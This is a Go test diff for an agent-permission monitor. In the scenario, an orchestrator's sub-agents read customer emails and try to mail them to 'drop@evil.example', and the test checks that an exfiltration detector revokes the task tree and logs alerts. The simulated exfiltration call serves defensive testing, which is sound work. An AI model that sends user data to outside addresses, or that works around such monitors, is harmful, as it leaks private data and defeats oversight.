@@ -5,6 +5,7 @@ import (
 	"fmt"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
 	"os"
 	"path/filepath"
 	"strings"
@@ -318,4 +319,85 @@ func TestMonitorStopsARiskyTask(t *testing.T) {
 	if list, err := (&httpapi.Client{BaseURL: m.URL, AdminToken: m.AdminToken}).Events(ctx, nil); err != nil || len(list) == 0 {
 		t.Fatalf("events: %v", err)
 	}
+}
+
+// The issue's scenario, end to end with the official MCP client: an
+// orchestrator delegates to two sub-agents; one reads customer data, the
+// other tries to send it out. The send is held by the default policy and
+// refused when the monitor's exfiltration detector revokes the task's
+// tree; every mandate of the tree is refused from then on; an alert names
+// the detector and the evidence; `mandate audit show` tells the story.
+func TestExfiltrationIsStoppedAndContained(t *testing.T) {
+	ctx := context.Background()
+	srv := mcp.NewServer(&mcp.Implementation{Name: "crm", Version: "1"}, nil)
+	mcp.AddTool(srv, &mcp.Tool{Name: "list_customers"}, func(context.Context, *mcp.CallToolRequest, struct{}) (*mcp.CallToolResult, any, error) {
+		return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: "ada@example.org, grace@example.org"}}}, nil, nil
+	})
+	sent := 0
+	mcp.AddTool(srv, &mcp.Tool{Name: "send_email"}, func(context.Context, *mcp.CallToolRequest, struct {
+		To   string `json:"to"`
+		Body string `json:"body"`
+	}) (*mcp.CallToolResult, any, error) {
+		sent++
+		return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: "sent"}}}, nil, nil
+	})
+	m, orchestrator := serveWithMCPLabels(t, srv, false, map[string][]string{
+		"list_customers": {"read_only", "data:customer-data"}, "send_email": {"external_send"}})
+	root, err := orchestrator.Root(ctx, client.Request{Scope: "mcp:crm:*", TTL: time.Minute})
+	if err != nil {
+		t.Fatal(err)
+	}
+	reader, err := orchestrator.Delegate(ctx, root, client.NewEphemeral(), client.Request{Scope: "mcp:crm:list_customers"}, client.DelegateOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	sender, err := orchestrator.Delegate(ctx, root, client.NewEphemeral(), client.Request{Scope: "mcp:crm:send_email"}, client.DelegateOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	rs, err := connectMCP(m, reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer rs.Close()
+	if _, err := rs.CallTool(ctx, &mcp.CallToolParams{Name: "list_customers"}); err != nil {
+		t.Fatalf("the read: %v", err)
+	}
+	ss, err := connectMCP(m, sender)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ss.Close()
+	_, err = ss.CallTool(ctx, &mcp.CallToolParams{Name: "send_email", Arguments: map[string]any{"to": "drop@evil.example", "body": "ada@example.org, grace@example.org"}})
+	if err == nil || !strings.Contains(err.Error(), "revoked") || sent != 0 {
+		t.Fatalf("the send: %v (sent %d)", err, sent)
+	}
+	// Contained: every mandate of the tree is refused on its next request.
+	for name, md := range map[string]*client.Mandate{"root": root, "reader": reader, "sender": sender} {
+		if cs, err := connectMCP(m, md); err == nil {
+			cs.Close()
+			t.Errorf("the %s's mandate still works", name)
+		}
+	}
+	alerts, err := (&httpapi.Client{BaseURL: m.URL, AdminToken: m.AdminToken}).Events(ctx, url.Values{"type": {mandate.EventAlert}, "task": {root.Claims.Task}})
+	if err != nil || len(alerts) == 0 || alerts[0].Details["detector"] != "exfiltration" {
+		t.Fatalf("alerts %v %v", alerts, err)
+	}
+	// The checks above used the revoked mandates: each use is an alert.
+	for _, a := range alerts[1:] {
+		if a.Details["detector"] != "dead-mandate-use" {
+			t.Errorf("alert %s: %s", a.Details["detector"], a.Reason)
+		}
+	}
+	if ev := fmt.Sprint(alerts[0].Details["evidence"], alerts[0].Details["responses"]); !strings.Contains(ev, "revoke-task") {
+		t.Errorf("the alert's evidence and responses: %s", ev)
+	}
+	story := runCLI(t, m, "audit", "show", "--task", root.Claims.Task)
+	for _, want := range []string{"mandate.issued", "mandate.delegated", "tool.call mcp:crm:list_customers", "approval.requested mcp:crm:send_email",
+		"mandate.revoked", "exfiltration", "alert"} {
+		if !strings.Contains(story, want) {
+			t.Errorf("audit show lacks %q:\n%s", want, story)
+		}
+	}
+	t.Logf("mandate audit show --task %s\n%s", root.Claims.Task, story)
 }
